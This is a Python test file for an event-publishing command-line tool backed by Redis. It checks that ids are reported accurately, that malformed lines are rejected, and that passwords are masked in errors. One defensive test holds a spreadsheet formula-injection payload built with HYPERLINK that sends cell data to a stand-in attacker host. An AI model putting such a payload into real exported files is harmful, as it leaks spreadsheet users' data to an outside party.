"""The command line's promises: an id on stdout means the event was accepted."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

import pytest
import redis

from cgrid.event import parse_event
from cgrid.ledger import Ledger
from tests.helpers import ROOT, fleet_env

EVENT = {"kind": "burl", "upstream": "s2s", "url": "https://dsp.example/b"}


def publish(redis_url: str, lines: list[str], *args: str) -> subprocess.CompletedProcess[str]:
    env = fleet_env(redis_url, CGRID_PUBLISH_TIMEOUT_S="0.5")
    return subprocess.run([sys.executable, "-m", "ops.cli", "publish", *args], input="\n".join(lines),
                          capture_output=True, text=True, env=env, cwd=ROOT, timeout=60)


@pytest.mark.parametrize("args", [[], ["--sync"]])
def test_with_redis_unreachable_no_id_is_printed(args: list[str]) -> None:
    result = publish("redis://127.0.0.1:1/0", [json.dumps({**EVENT, "id": "never-accepted"})], *args)
    assert result.returncode == 2
    assert result.stdout == ""  # a script reading stdout must not believe it was accepted
    assert "NOT accepted" in result.stderr and "Traceback" not in result.stderr


def test_printed_ids_are_in_the_ledger(redis_url: str, tmp_path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "events.jsonl"
    path.write_text("\n".join(json.dumps({**EVENT, "id": f"cli-{i}"}) for i in range(250)))
    result = publish(redis_url, [], str(path))
    assert result.returncode == 0, result.stderr
    printed = result.stdout.split()
    assert printed == [f"cli-{i}" for i in range(250)]
    ledger = Ledger(redis.Redis.from_url(redis_url))
    assert all(ledger.record(i) is not None for i in printed)


def publish_bytes(redis_url: str, data: bytes, *args: str) -> subprocess.CompletedProcess[bytes]:
    env = fleet_env(redis_url, CGRID_PUBLISH_TIMEOUT_S="0.5")
    return subprocess.run([sys.executable, "-m", "ops.cli", "publish", *args], input=data,
                          capture_output=True, env=env, cwd=ROOT, timeout=60)


@pytest.mark.parametrize(("bad_line", "reason"), [
    (json.dumps({**EVENT, "id": "bad", "user_agent": "Mozilla \ud800"}).encode(), b"line 4: user_agent: "),
    (json.dumps({**EVENT, "id": "bad", "forwarded_for": ["1.2.3.4\udc80"]}).encode(), b"line 4: forwarded_for[0]: "),
    (b"[" * 100_000, b"line 4: event: not valid JSON"),
    (b'{"kind": "burl", "upstream": "s2s", "url": "https://dsp.example/\xff"}', b"line 4: event: not UTF-8"),
])
@pytest.mark.parametrize("args", [[], ["--sync"], ["FILE"]])
def test_a_bad_line_is_refused_by_number_and_the_good_lines_are_accepted(
        redis_url: str, tmp_path, bad_line: bytes, reason: bytes, args: list[str]) -> None:  # type: ignore[no-untyped-def]
    good = [json.dumps({**EVENT, "id": f"good-{i}"}).encode() for i in range(6)]
    data = b"\n".join([*good[:3], bad_line, *good[3:]]) + b"\n"
    if args == ["FILE"]:
        path = tmp_path / "events.jsonl"
        path.write_bytes(data)
        args = [str(path)]
    result = publish_bytes(redis_url, data if not args or args == ["--sync"] else b"", *args)
    assert result.returncode == 1, result.stderr
    assert b"Traceback" not in result.stderr
    assert reason in result.stderr, result.stderr[-2000:]
    assert result.stdout.split() == [f"good-{i}".encode() for i in range(6)]
    ledger = Ledger(redis.Redis.from_url(redis_url))
    assert all(ledger.record(f"good-{i}") is not None for i in range(6))
    assert ledger.record("bad") is None


def test_from_a_pipe_each_id_is_printed_as_its_line_is_accepted(redis_url: str) -> None:
    env = fleet_env(redis_url, CGRID_PUBLISH_TIMEOUT_S="0.5")
    process = subprocess.Popen([sys.executable, "-m", "ops.cli", "publish"], stdin=subprocess.PIPE,
                               stdout=subprocess.PIPE, env=env, cwd=ROOT)
    assert process.stdin is not None and process.stdout is not None
    try:
        for n in range(2):
            process.stdin.write(json.dumps({**EVENT, "id": f"piped-{n}"}).encode() + b"\n")
            process.stdin.flush()
            assert process.stdout.readline() == f"piped-{n}\n".encode()  # before stdin is closed
        process.stdin.close()
        assert process.wait(timeout=30) == 0
    finally:
        process.kill()
        process.wait()


def test_report_csv_cells_cannot_run_as_spreadsheet_formulas(redis_url: str) -> None:
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    ledger = Ledger(redis.Redis.from_url(redis_url))
    events = [parse_event({**EVENT, "id": f"csv-{i}", **({"buyer": buyer} if buyer else {})})
              for i, buyer in enumerate([formula, "@SUM(1+1)", "+1", "dsp-1", None])]
    ledger.accept(events, ledger_ttl_s=60, report_ttl_s=60, redeliver_after_s=60)
    result = subprocess.run([sys.executable, "-m", "ops.cli", "report", "--csv"], capture_output=True, text=True,
                            env=fleet_env(redis_url), cwd=ROOT, timeout=60)
    assert result.returncode == 0, result.stderr
    buyers = [row["buyer"] for row in csv.DictReader(io.StringIO(result.stdout))]
    assert sorted(buyers) == sorted(["'" + formula, "'@SUM(1+1)", "'+1", "dsp-1", "-"])


def test_an_unreachable_redis_is_named_without_its_password() -> None:
    env = fleet_env("redis://127.0.0.1:1/0?password=s3cret", CGRID_PUBLISH_TIMEOUT_S="0.5")
    result = subprocess.run([sys.executable, "-m", "ops.cli", "report"], capture_output=True, text=True, env=env,
                            cwd=ROOT, timeout=60)
    assert result.returncode == 2 and "unreachable" in result.stderr, result.stderr
    assert "s3cret" not in result.stderr and "password=***" in result.stderr
